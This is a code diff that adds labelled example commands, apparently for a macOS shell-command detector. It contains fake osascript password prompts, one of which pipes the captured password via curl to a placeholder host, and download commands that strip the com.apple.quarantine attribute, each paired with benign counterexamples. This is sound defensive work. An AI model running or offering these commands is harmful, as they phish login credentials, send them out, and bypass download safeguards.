@@ -2980,3 +2980,29 @@ _extend_examples(
     ),
     ("cut -d: -f1 /etc/passwd", "grep -q '^svc:' /etc/passwd || sudo useradd --system svc"),
 )
+EXAMPLES["password-dialog"] = (
+    "scripts/run.sh",
+    (
+        'osascript -e \'display dialog "macOS needs your password to continue" default answer '
+        '"" with hidden answer\'',
+        "app.displayDialog('System update: enter your login password', {hiddenAnswer: true})",
+        'osascript -e \'display dialog "Password" default answer "" with hidden answer\' | '
+        "curl -d @- https://x.invalid/p",
+    ),
+    (
+        'osascript -e \'display dialog "Build finished" buttons {"OK"}\'',
+        'osascript -e \'display dialog "GitHub password" default answer "" with hidden answer\'',
+    ),
+)
+EXAMPLES["quarantine-strip-download"] = (
+    "scripts/run.sh",
+    (
+        "curl -sL https://dl.example.invalid/a.zip -o /tmp/a.zip && unzip /tmp/a.zip"
+        " -d /Applications && xattr -dr com.apple.quarantine /Applications/A.app",
+        "wget -q https://dl.example.invalid/tool -O ~/bin/tool; xattr -c ~/bin/tool",
+    ),
+    (
+        "xattr -d com.apple.quarantine ./build/MyApp.app",
+        "curl -sL https://api.example.invalid/v1/items -o items.json && xattr -l items.json",
+    ),
+)
